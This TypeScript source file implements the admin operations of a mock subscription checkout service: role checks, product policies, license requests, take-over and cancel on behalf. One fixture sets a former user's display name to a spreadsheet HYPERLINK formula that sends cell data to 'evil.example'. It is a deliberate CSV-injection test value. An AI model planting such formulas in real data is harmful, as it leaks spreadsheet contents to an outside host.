/**
 * The admins' view in the mock checkout service (the `admin` operations of `api/openapi.yaml`):
 * every subscription of a tenant (self-service ones from the purchaser's store, central ones of the
 * organization's own agreements), the per-product policy the offer reads, the license-request inbox,
 * take-over and cancel on behalf. Who may do what is {@link PERMISSIONS}, checked from the token's
 * `wids` and `delegated_admin_tenants` claims in the order the contract states: sign-in (401),
 * tenant (404), admin at all (403 `not-admin`), role (403 `partner-not-permitted`).
 */
import type { components } from '../src/api/schema.js';
import { isProductId, PRODUCT_IDS, PRODUCTS, type ProductId } from '../src/shared/products.js';
import { ROLE_TEMPLATE_IDS, TENANTS, tenantById, type AdminPolicy } from './identities.js';
import type { MockResponse } from './response.js';
import { defaultPolicy, type ProductPolicySetting } from './rules.js';
import {
  rollPeriods,
  type StoredSubscription,
  type SubscriptionHost,
  type SubscriptionState,
} from './subscriptions.js';
import { objectIdFor, type AccessClaims } from './tokens.js';

type Schemas = components['schemas'];

const DAY = 86_400_000;
/** The longest policy message and decline note the service stores. */
export const MAX_MESSAGE_LENGTH = 500;

export type AdminRole = Schemas['AdminRole'];
/** The admin operations, by the contract's `operationId`. */
export type AdminOperation =
  | 'listAdminSubscriptions'
  | 'getAdminSubscription'
  | 'takeOverSubscription'
  | 'cancelOnBehalf'
  | 'listPolicies'
  | 'setPolicy'
  | 'listLicenseRequests'
  | 'approveLicenseRequest'
  | 'declineLicenseRequest';

const EVERY_ADMIN: readonly AdminRole[] = ['global-admin', 'billing-admin', 'delegated-partner'];
const OWN_ADMINS: readonly AdminRole[] = ['global-admin', 'billing-admin'];

/**
 * Who may do what in a tenant they administer: the organization's global and billing admins
 * everything; a delegated partner reads and takes over (helps centralize), but the policy, license
 * decisions and cancelling on behalf stay with the organization's own admins.
 */
export const PERMISSIONS: Readonly<Record<AdminOperation, readonly AdminRole[]>> = {
  listAdminSubscriptions: EVERY_ADMIN,
  getAdminSubscription: EVERY_ADMIN,
  takeOverSubscription: EVERY_ADMIN,
  cancelOnBehalf: OWN_ADMINS,
  listPolicies: EVERY_ADMIN,
  setPolicy: OWN_ADMINS,
  listLicenseRequests: EVERY_ADMIN,
  approveLicenseRequest: OWN_ADMINS,
  declineLicenseRequest: OWN_ADMINS,
};

/**
 * What the caller is to a tenant: one of its admins, its delegated partner, someone of the tenant
 * without an admin role (`member`: purchasers and guests too), or a `stranger` (another tenant, or no
 * such tenant).
 */
export function adminRoleOf(
  claims: Pick<AccessClaims, 'tid' | 'wids' | 'delegated_admin_tenants'>,
  tenantId: string,
): AdminRole | 'member' | 'stranger' {
  if (!tenantById(tenantId)) return 'stranger';
  if (claims.tid === tenantId) {
    const wids = claims.wids ?? [];
    if (wids.includes(ROLE_TEMPLATE_IDS['global-admin'])) return 'global-admin';
    if (wids.includes(ROLE_TEMPLATE_IDS['billing-admin'])) return 'billing-admin';
    return 'member';
  }
  return claims.delegated_admin_tenants?.includes(tenantId) ? 'delegated-partner' : 'stranger';
}

/**
 * A policy change as the service takes it, or the refusal's code: a message of at most 500
 * characters (kept exactly as written, markup included: it is text), a link that is an absolute
 * `https:` URL, an empty message or link clearing it.
 */
export function parsePolicyChange(
  raw: unknown,
): { change: ProductPolicySetting; version: number } | { code: Schemas['Problem']['code']; detail: string } {
  const body = raw as { setting?: unknown; message?: unknown; url?: unknown; version?: unknown } | null;
  if (!body || typeof body !== 'object') return { code: 'invalid-request', detail: 'A JSON object is required.' };
  const settings: AdminPolicy[] = ['Enabled', 'Disabled', 'OnlyTrialsWithoutPaymentMethod'];
  if (!settings.includes(body.setting as AdminPolicy)) {
    return { code: 'invalid-request', detail: `setting takes ${settings.join(', ')}.` };
  }
  if (!Number.isSafeInteger(body.version) || (body.version as number) < 1) {
    return { code: 'invalid-request', detail: 'version takes the version of the policy the change was made from.' };
  }
  if (body.message !== undefined && typeof body.message !== 'string') {
    return { code: 'invalid-request', detail: 'message is text.' };
  }
  if (body.url !== undefined && typeof body.url !== 'string') {
    return { code: 'invalid-request', detail: 'url is text.' };
  }
  const message = body.message?.trim() ? body.message : undefined;
  const url = body.url?.trim() || undefined;
  if (message !== undefined && message.length > MAX_MESSAGE_LENGTH) {
    return {
      code: 'policy-message-too-long',
      detail: `The message has ${message.length} characters; at most ${MAX_MESSAGE_LENGTH}.`,
    };
  }
  if (url !== undefined && !isHttpsUrl(url)) {
    return { code: 'policy-link-not-https', detail: 'The link must be an absolute https: address.' };
  }
  return {
    change: { setting: body.setting as AdminPolicy, ...(message ? { message } : {}), ...(url ? { url } : {}) },
    version: body.version as number,
  };
}

function isHttpsUrl(text: string): boolean {
  if (text.length > 2000 || !text.startsWith('https://')) return false;
  try {
    return new URL(text).protocol === 'https:';
  } catch {
    return false;
  }
}

// ---------------------------------------------------------------------------------------------
// The admin's part of the service's store.

export interface StoredPolicy extends ProductPolicySetting {
  version: number;
  updatedAt?: number;
  updatedBy?: string;
}

/** A subscription of the organization's own agreement (no purchaser, no card, no order history). */
export interface StoredCentral {
  subscriptionId: string;
  tenantId: string;
  productId: ProductId;
  quantity: number;
  periodStart: number;
  periodEnd: number;
  createdAt: number;
  assigned: Array<{ email: string; assignedAt: number }>;
}

/** A license request, as the ineligible notice sends it and the admin decides it. */
export interface StoredLicenseRequest {
  id: string;
  productId: ProductId;
  status: Schemas['LicenseRequestStatus'];
  /** The requester's object id ('' for a seeded request: matched by `requester`). */
  owner: string;
  /** The requester's sign-in name, lower-case. */
  requester?: string;
  tenantId?: string;
  message?: string;
  requestedAt?: number;
  decidedAt?: number;
  decidedBy?: string;
  note?: string;
  centralSubscriptionId?: string;
}

export interface AdminState {
  /** Policies the admins changed, by tenant and product; the rest are the tenant's defaults. */
  policies: Record<string, Partial<Record<ProductId, StoredPolicy>>>;
  central: StoredCentral[];
  /** The cancellation requests take-overs sent, by self-service subscription id. */
  takeovers: Record<string, { requestedAt: number; requestedBy: string }>;
}

/** What the admins' view needs of the service's store. */
export interface AdminDb extends SubscriptionState {
  admin?: AdminState;
  licenseRequests: Record<string, StoredLicenseRequest>;
}

/** The central subscriptions the organizations start with (mocks/identities.ts), dated relative to `now`. */
export function seedAdmin(now: number): AdminState {
  const central: StoredCentral[] = [];
  for (const tenant of TENANTS) {
    (tenant.central ?? []).forEach((seed, index) => {
      const periodStart = now - 40 * DAY;
      central.push({
        subscriptionId: `sub_c${tenant.id.slice(-6)}${index}`,
        tenantId: tenant.id,
        productId: seed.productId,
        quantity: seed.quantity,
        periodStart,
        periodEnd: periodStart + 365 * DAY,
        createdAt: periodStart - 365 * DAY,
        assigned: seed.assigned.map((email) => ({ email, assignedAt: periodStart })),
      });
    });
  }
  return { policies: {}, central, takeovers: {} };
}

/** The license requests waiting in the admins' inboxes when the service starts. */
export function seedLicenseRequests(now: number): Record<string, StoredLicenseRequest> {
  const requests: Record<string, StoredLicenseRequest> = {};
  for (const tenant of TENANTS) {
    (tenant.licenseRequests ?? []).forEach((seed, index) => {
      const id = `lrq_seed${tenant.id.slice(-6)}${index}`;
      requests[id] = {
        id,
        productId: seed.productId,
        status: 'sent',
        owner: '',
        requester: seed.requester,
        tenantId: tenant.id,
        ...(seed.message ? { message: seed.message } : {}),
        requestedAt: now - seed.daysAgo * DAY,
      };
    });
  }
  return requests;
}

/**
 * The product's policy in force in a tenant: the admin's last change, or the tenant's default
 * (version 1). The offer rules read it from here, so a change takes effect on the next offer.
 */
export function policyOf(db: Pick<AdminDb, 'admin'>, tenantId: string, productId: ProductId): StoredPolicy {
  return db.admin?.policies[tenantId]?.[productId] ?? { ...defaultPolicy(tenantById(tenantId), productId), version: 1 };
}

/** Whether a stored license request is this person's (seeded ones are matched by sign-in name). */
export function isRequestOf(request: StoredLicenseRequest, claims: AccessClaims): boolean {
  return (
    (request.owner !== '' && request.owner === claims.oid) ||
    request.requester === claims.preferred_username.toLowerCase()
  );
}

/** The requester's latest license request for a product and its outcome, for their next offer. */
export function licenseRequestOutcome(
  db: Pick<AdminDb, 'licenseRequests'>,
  claims: AccessClaims,
  productId: ProductId,
): Schemas['LicenseRequestOutcome'] | undefined {
  const latest = Object.values(db.licenseRequests)
    .filter((r) => r.productId === productId && isRequestOf(r, claims) && r.requestedAt !== undefined)
    .sort((a, b) => b.requestedAt! - a.requestedAt!)[0];
  if (!latest) return undefined;
  return {
    id: latest.id,
    status: latest.status,
    requestedAt: iso(latest.requestedAt!),
    ...(latest.decidedAt !== undefined ? { decidedAt: iso(latest.decidedAt) } : {}),
    ...(latest.note !== undefined ? { note: latest.note } : {}),
  };
}

// ---------------------------------------------------------------------------------------------
// The operations.

const iso = (ms: number) => new Date(ms).toISOString();
const ok = (status: number, body: unknown): MockResponse => ({ status, body });

interface Person {
  id: string;
  name: string;
  inTenant: boolean;
}

/** Names and object ids of people of a tenant, from its directory (anyone else by their email). */
/**
 * The name the directory last had for someone who left (no longer in it). Dana's is a spreadsheet
 * formula, as a hostile display name can be: the admins' CSV export must neutralize it.
 */
const FORMER_NAMES: Readonly<Record<string, string>> = {
  'dana@contoso.com': '=HYPERLINK("https://evil.example/?d="&A1,"Dana Scott")',
};

async function peopleOf(tenantId: string, emails: Iterable<string>): Promise<Map<string, Person>> {
  const directory = new Map((tenantById(tenantId)?.directory ?? []).map((e) => [e.email.toLowerCase(), e.name]));
  const people = new Map<string, Person>();
  for (const email of new Set(emails)) {
    const name = directory.get(email);
    const former = FORMER_NAMES[email] ?? email.split('@')[0]!;
    people.set(email, { id: await objectIdFor(email), name: name ?? former, inTenant: !!name });
  }
  return people;
}

type Access<Db> = { claims: AccessClaims; role: AdminRole; db: Db & { admin: AdminState } };

export class MockAdmin<Db extends AdminDb = AdminDb> {
  constructor(private readonly host: SubscriptionHost<Db>) {}

  /** The store, brought up to date with the clock, the admin's part seeded if an older store lacks it. */
  private current(): Db & { admin: AdminState } {
    const db = this.host.load();
    rollPeriods(db, this.host.now(), (prefix) => this.host.randomId(prefix));
    db.admin ??= seedAdmin(this.host.now());
    this.host.save(db);
    return db as Db & { admin: AdminState };
  }

  /** Sign-in (401), tenant (404), admin at all (403 `not-admin`), role (403 `partner-not-permitted`). */
  private async access(
    authorization: string | null,
    tenantId: string,
    operation: AdminOperation,
  ): Promise<MockResponse | Access<Db>> {
    const claims = await this.host.authenticate(authorization);
    if ('status' in claims) return claims;
    const role = adminRoleOf(claims, tenantId);
    if (role === 'stranger') return this.host.problem(404, 'tenant-not-found');
    if (role === 'member') return this.host.problem(403, 'not-admin');
    if (!PERMISSIONS[operation].includes(role)) {
      return this.host.problem(403, 'partner-not-permitted', {
        detail: 'A delegated partner reads and takes over; the organization’s own admins do the rest.',
      });
    }
    return { claims, role, db: this.current() };
  }

  async listTenants(authorization: string | null): Promise<MockResponse> {
    const claims = await this.host.authenticate(authorization);
    if ('status' in claims) return claims;
    const tenants = [claims.tid, ...(claims.delegated_admin_tenants ?? [])].flatMap((id) => {
      const role = adminRoleOf(claims, id);
      const tenant = tenantById(id);
      return tenant && role !== 'member' && role !== 'stranger' ? [{ id, displayName: tenant.displayName, role }] : [];
    });
    return ok(200, { tenants });
  }

  private presentSelfService(
    db: Db & { admin: AdminState },
    s: StoredSubscription,
    people: Map<string, Person>,
  ): Schemas['AdminSubscription'] {
    const purchaser = people.get(s.owner);
    const takeover = db.admin.takeovers[s.subscriptionId];
    return {
      id: s.subscriptionId,
      source: 'self-service',
      productId: s.productId,
      productName: PRODUCTS[s.productId].name,
      purchaser: { displayName: purchaser?.name ?? s.owner, email: s.owner, inTenant: purchaser?.inTenant ?? false },
      status: s.status,
      quantity: s.quantity,
      assignedCount: s.assigned.length,
      availableCount: Math.max(0, s.quantity - s.assigned.length),
      billingPeriod: s.billingPeriod,
      unitAmount: { value: s.unitAmount, currency: s.currency },
      recurringAmount: { value: (s.scheduledQuantity ?? s.quantity) * s.unitAmount, currency: s.currency },
      expiresAt: iso(s.endsAt ?? s.periodEnd),
      createdAt: iso(s.createdAt),
      ...(takeover
        ? { cancellationRequest: { requestedAt: iso(takeover.requestedAt), requestedBy: takeover.requestedBy } }
        : {}),
    };
  }

  private presentCentral(c: StoredCentral): Schemas['AdminSubscription'] {
    return {
      id: c.subscriptionId,
      source: 'central',
      productId: c.productId,
      productName: PRODUCTS[c.productId].name,
      status: 'active',
      quantity: c.quantity,
      assignedCount: c.assigned.length,
      availableCount: Math.max(0, c.quantity - c.assigned.length),
      expiresAt: iso(c.periodEnd),
      createdAt: iso(c.createdAt),
    };
  }

  private detail(
    db: Db & { admin: AdminState },
    found: { kind: 'self-service'; s: StoredSubscription } | { kind: 'central'; s: StoredCentral },
    people: Map<string, Person>,
  ): Schemas['AdminSubscriptionDetail'] {
    const { s } = found;
    const central = new Set(
      db.admin.central
        .filter((c) => c.tenantId === s.tenantId && c.productId === s.productId)
        .flatMap((c) => c.assigned.map((a) => a.email)),
    );
    const summary =
      found.kind === 'self-service' ? this.presentSelfService(db, found.s, people) : this.presentCentral(found.s);
    return {
      ...summary,
      assignedUsers: s.assigned
        .map((a) => ({
          userId: people.get(a.email)?.id ?? '',
          displayName: people.get(a.email)?.name ?? a.email,
          email: a.email,
          assignedAt: iso(a.assignedAt),
          centralLicense: central.has(a.email),
        }))
        .sort((a, b) => a.displayName.localeCompare(b.displayName)),
      orderHistory:
        found.kind === 'central'
          ? []
          : [...found.s.orders]
              .sort((a, b) => b.date - a.date)
              .map((o) => ({
                id: o.id,
                kind: o.kind,
                date: iso(o.date),
                quantityChange: o.quantityChange,
                quantity: o.quantity,
                amount: { value: o.amount, currency: found.s.currency },
              })),
    };
  }

  private find(
    db: Db & { admin: AdminState },
    tenantId: string,
    subscriptionId: string,
  ): { kind: 'self-service'; s: StoredSubscription } | { kind: 'central'; s: StoredCentral } | undefined {
    const own = db.subscriptions.find((s) => s.subscriptionId === subscriptionId && s.tenantId === tenantId);
    if (own) return { kind: 'self-service', s: own };
    const central = db.admin.central.find((c) => c.subscriptionId === subscriptionId && c.tenantId === tenantId);
    return central && { kind: 'central', s: central };
  }

  /** Everyone a tenant's subscriptions name: purchasers and license holders. */
  private people(db: Db & { admin: AdminState }, tenantId: string): Promise<Map<string, Person>> {
    const emails = [
      ...db.subscriptions
        .filter((s) => s.tenantId === tenantId)
        .flatMap((s) => [s.owner, ...s.assigned.map((a) => a.email)]),
      ...db.admin.central.filter((c) => c.tenantId === tenantId).flatMap((c) => c.assigned.map((a) => a.email)),
      ...Object.values(db.licenseRequests)
        .filter((r) => r.tenantId === tenantId && r.requester)
        .map((r) => r.requester!),
    ];
    return peopleOf(tenantId, emails);
  }

  async listSubscriptions(
    authorization: string | null,
    tenantId: string,
    source: string | null,
    productId: string | null,
  ): Promise<MockResponse> {
    const access = await this.access(authorization, tenantId, 'listAdminSubscriptions');
    if ('status' in access) return access;
    const filter = source ?? 'self-service';
    if (!['self-service', 'central', 'all'].includes(filter)) {
      return this.host.problem(400, 'invalid-request', { detail: 'source takes self-service, central or all.' });
    }
    if (productId !== null && !isProductId(productId)) {
      return this.host.problem(400, 'invalid-request', { detail: 'Unknown productId.' });
    }
    const { db } = access;
    const people = await this.people(db, tenantId);
    const wanted = (p: ProductId) => productId === null || p === productId;
    const rows = [
      ...(filter === 'central'
        ? []
        : db.subscriptions
            .filter((s) => s.tenantId === tenantId && wanted(s.productId))
            .map((s) => this.presentSelfService(db, s, people))),
      ...(filter === 'self-service'
        ? []
        : db.admin.central
            .filter((c) => c.tenantId === tenantId && wanted(c.productId))
            .map((c) => this.presentCentral(c))),
    ].sort((a, b) => Date.parse(b.createdAt) - Date.parse(a.createdAt));
    return ok(200, { subscriptions: rows });
  }

  async getSubscription(authorization: string | null, tenantId: string, subscriptionId: string): Promise<MockResponse> {
    const access = await this.access(authorization, tenantId, 'getAdminSubscription');
    if ('status' in access) return access;
    const found = this.find(access.db, tenantId, subscriptionId);
    if (!found) return this.host.problem(404, 'subscription-not-found');
    return ok(200, this.detail(access.db, found, await this.people(access.db, tenantId)));
  }

  async takeOver(
    authorization: string | null,
    tenantId: string,
    subscriptionId: string,
    key: string | null,
  ): Promise<MockResponse> {
    const access = await this.access(authorization, tenantId, 'takeOverSubscription');
    if ('status' in access) return access;
    const found = this.find(access.db, tenantId, subscriptionId);
    if (!found) return this.host.problem(404, 'subscription-not-found');
    if (found.kind === 'central') return this.host.problem(409, 'not-self-service');
    const people = await this.people(access.db, tenantId);
    return this.host.idempotent(
      `takeover:${subscriptionId}`,
      access.claims,
      key,
      {},
      (raw) => {
        const db = raw as Db & { admin: AdminState };
        db.admin ??= seedAdmin(this.host.now());
        const s = db.subscriptions.find((x) => x.subscriptionId === subscriptionId)!;
        if (s.status === 'expired') return this.host.problem(409, 'subscription-expired');
        const pool = db.admin.central.filter((c) => c.tenantId === tenantId && c.productId === s.productId);
        const holders = new Set(pool.flatMap((c) => c.assigned.map((a) => a.email)));
        // Only people still in the tenant's directory get one of its licenses (not one who left).
        const needed = s.assigned
          .map((a) => a.email)
          .filter((email) => !holders.has(email) && people.get(email)?.inTenant);
        const central = [...pool].sort((a, b) => b.quantity - b.assigned.length - (a.quantity - a.assigned.length))[0];
        const available = central ? central.quantity - central.assigned.length : 0;
        if (!central || available < needed.length) {
          return this.host.problem(409, 'no-central-license', {
            detail: `${needed.length} people need a license of the organization’s own; ${available} are available.`,
          });
        }
        const now = this.host.now();
        for (const email of needed) central.assigned.push({ email, assignedAt: now });
        db.admin.takeovers[subscriptionId] ??= { requestedAt: now, requestedBy: access.claims.preferred_username };
        const request = db.admin.takeovers[subscriptionId];
        return this.remember(db, {
          subscription: this.detail(db, { kind: 'self-service', s }, people),
          centralSubscription: this.presentCentral(central),
          assignedUserIds: needed.map((email) => people.get(email)?.id ?? ''),
          cancellationRequest: { requestedAt: iso(request.requestedAt), requestedBy: request.requestedBy },
        });
      },
      (db, id) => db.outcomes[id],
    );
  }

  async cancelOnBehalf(
    authorization: string | null,
    tenantId: string,
    subscriptionId: string,
    key: string | null,
  ): Promise<MockResponse> {
    const access = await this.access(authorization, tenantId, 'cancelOnBehalf');
    if ('status' in access) return access;
    const found = this.find(access.db, tenantId, subscriptionId);
    if (!found) return this.host.problem(404, 'subscription-not-found');
    if (found.kind === 'central') return this.host.problem(409, 'not-self-service');
    const people = await this.people(access.db, tenantId);
    if (people.get(found.s.owner)?.inTenant) {
      return this.host.problem(409, 'purchaser-still-in-tenant', {
        detail: 'The purchaser can cancel it themselves; a take-over asks them to.',
      });
    }
    return this.host.idempotent(
      `cancel-on-behalf:${subscriptionId}`,
      access.claims,
      key,
      {},
      (raw) => {
        const db = raw as Db & { admin: AdminState };
        db.admin ??= seedAdmin(this.host.now());
        const s = db.subscriptions.find((x) => x.subscriptionId === subscriptionId)!;
        if (s.status === 'expired') return this.host.problem(409, 'subscription-expired');
        if (s.status !== 'canceled') {
          s.status = 'canceled';
          s.endsAt = s.periodEnd;
          s.orders.push({
            id: this.host.randomId('ord_'),
            kind: 'canceled',
            date: this.host.now(),
            quantityChange: 0,
            quantity: s.quantity,
            amount: 0,
          });
        }
        return this.remember(db, this.detail(db, { kind: 'self-service', s }, people));
      },
      (db, id) => db.outcomes[id],
    );
  }

  private presentPolicy(productId: ProductId, policy: StoredPolicy): Schemas['ProductPolicy'] {
    return {
      productId,
      productName: PRODUCTS[productId].name,
      setting: policy.setting,
      ...(policy.message !== undefined ? { message: policy.message } : {}),
      ...(policy.url !== undefined ? { url: policy.url } : {}),
      version: policy.version,
      ...(policy.updatedAt !== undefined ? { updatedAt: iso(policy.updatedAt) } : {}),
      ...(policy.updatedBy !== undefined ? { updatedBy: policy.updatedBy } : {}),
    };
  }

  async listPolicies(authorization: string | null, tenantId: string): Promise<MockResponse> {
    const access = await this.access(authorization, tenantId, 'listPolicies');
    if ('status' in access) return access;
    return ok(200, {
      policies: PRODUCT_IDS.map((productId) => this.presentPolicy(productId, policyOf(access.db, tenantId, productId))),
    });
  }

  async setPolicy(
    authorization: string | null,
    tenantId: string,
    productId: string,
    key: string | null,
    body: unknown,
  ): Promise<MockResponse> {
    const access = await this.access(authorization, tenantId, 'setPolicy');
    if ('status' in access) return access;
    if (!isProductId(productId)) return this.host.problem(404, 'unknown-product');
    const parsed = parsePolicyChange(body);
    if ('code' in parsed) return this.host.problem(400, parsed.code, { detail: parsed.detail });
    return this.host.idempotent(
      `policy:${tenantId}:${productId}`,
      access.claims,
      key,
      body,
      (raw) => {
        const db = raw as Db & { admin: AdminState };
        db.admin ??= seedAdmin(this.host.now());
        const current = policyOf(db, tenantId, productId);
        if (parsed.version !== current.version) {
          return this.host.problem(409, 'policy-conflict', {
            detail: `The policy is at version ${current.version}; this change was made from version ${parsed.version}.`,
          });
        }
        const next: StoredPolicy = {
          ...parsed.change,
          version: current.version + 1,
          updatedAt: this.host.now(),
          updatedBy: access.claims.preferred_username,
        };
        (db.admin.policies[tenantId] ??= {})[productId] = next;
        return this.remember(db, this.presentPolicy(productId, next));
      },
      (db, id) => db.outcomes[id],
    );
  }

  private presentRequest(r: StoredLicenseRequest, people: Map<string, Person>): Schemas['AdminLicenseRequest'] {
    const email = r.requester ?? '';
    const person = people.get(email);
    return {
      id: r.id,
      productId: r.productId,
      productName: PRODUCTS[r.productId].name,
      status: r.status,
      requester: { userId: r.owner || person?.id || '', displayName: person?.name ?? email, email },
      ...(r.message !== undefined ? { message: r.message } : {}),
      requestedAt: iso(r.requestedAt ?? 0),
      ...(r.decidedAt !== undefined ? { decidedAt: iso(r.decidedAt) } : {}),
      ...(r.decidedBy !== undefined ? { decidedBy: r.decidedBy } : {}),
      ...(r.note !== undefined ? { note: r.note } : {}),
      ...(r.centralSubscriptionId !== undefined ? { centralSubscriptionId: r.centralSubscriptionId } : {}),
    };
  }

  async listLicenseRequests(
    authorization: string | null,
    tenantId: string,
    status: string | null,
  ): Promise<MockResponse> {
    const access = await this.access(authorization, tenantId, 'listLicenseRequests');
    if ('status' in access) return access;
    const filter = status ?? 'sent';
    if (!['sent', 'approved', 'declined', 'all'].includes(filter)) {
      return this.host.problem(400, 'invalid-request', { detail: 'status takes sent, approved, declined or all.' });
    }
    const people = await this.people(access.db, tenantId);
    const licenseRequests = Object.values(access.db.licenseRequests)
      .filter((r) => r.tenantId === tenantId && (filter === 'all' || r.status === filter))
      .sort((a, b) => (b.requestedAt ?? 0) - (a.requestedAt ?? 0))
      .map((r) => this.presentRequest(r, people));
    return ok(200, { licenseRequests });
  }

  async decideLicenseRequest(
    decision: 'approve' | 'decline',
    authorization: string | null,
    tenantId: string,
    requestId: string,
    key: string | null,
    body: unknown,
  ): Promise<MockResponse> {
    const access = await this.access(
      authorization,
      tenantId,
      decision === 'approve' ? 'approveLicenseRequest' : 'declineLicenseRequest',
    );
    if ('status' in access) return access;
    const found = access.db.licenseRequests[requestId];
    if (!found || found.tenantId !== tenantId) return this.host.problem(404, 'license-request-not-found');
    const note = (body as { note?: unknown } | undefined)?.note;
    if (decision === 'decline' && note !== undefined) {
      if (typeof note !== 'string') return this.host.problem(400, 'invalid-request', { detail: 'note is text.' });
      if (note.length > MAX_MESSAGE_LENGTH) {
        return this.host.problem(400, 'note-too-long', {
          detail: `The note has ${note.length} characters; at most ${MAX_MESSAGE_LENGTH}.`,
        });
      }
    }
    const people = await this.people(access.db, tenantId);
    return this.host.idempotent(
      `${decision}:${requestId}`,
      access.claims,
      key,
      body ?? {},
      (raw) => {
        const db = raw as Db & { admin: AdminState };
        db.admin ??= seedAdmin(this.host.now());
        const request = db.licenseRequests[requestId]!;
        if (request.status !== 'sent') {
          return this.host.problem(409, 'license-request-decided', { detail: `It was ${request.status} already.` });
        }
        const now = this.host.now();
        if (decision === 'approve') {
          // A license of the organization's own goes only to someone still in its directory.
          if (!people.get(request.requester ?? '')?.inTenant) {
            return this.host.problem(409, 'requester-not-in-tenant', {
              detail: 'The requester has left the organization; decline the request instead.',
            });
          }
          const pool = db.admin.central.filter((c) => c.tenantId === tenantId && c.productId === request.productId);
          const holding = pool.find((c) => c.assigned.some((a) => a.email === request.requester));
          const free = [...pool]
            .filter((c) => c.quantity > c.assigned.length)
            .sort((a, b) => b.quantity - b.assigned.length - (a.quantity - a.assigned.length))[0];
          const central = holding ?? free;
          if (!central) {
            return this.host.problem(409, 'no-central-license', {
              detail: `No license of ${PRODUCTS[request.productId].name} is available in the organization’s own subscriptions.`,
            });
          }
          if (!holding && request.requester) central.assigned.push({ email: request.requester, assignedAt: now });
          request.centralSubscriptionId = central.subscriptionId;
          request.status = 'approved';
        } else {
          request.status = 'declined';
          if (typeof note === 'string' && note !== '') request.note = note;
        }
        request.decidedAt = now;
        request.decidedBy = access.claims.preferred_username;
        return this.remember(db, this.presentRequest(request, people));
      },
      (db, id) => db.outcomes[id],
    );
  }

  private remember(db: Db, outcome: unknown): { status: number; resource: string } {
    const id = this.host.randomId('out_');
    db.outcomes[id] = outcome;
    return { status: 200, resource: id };
  }
}
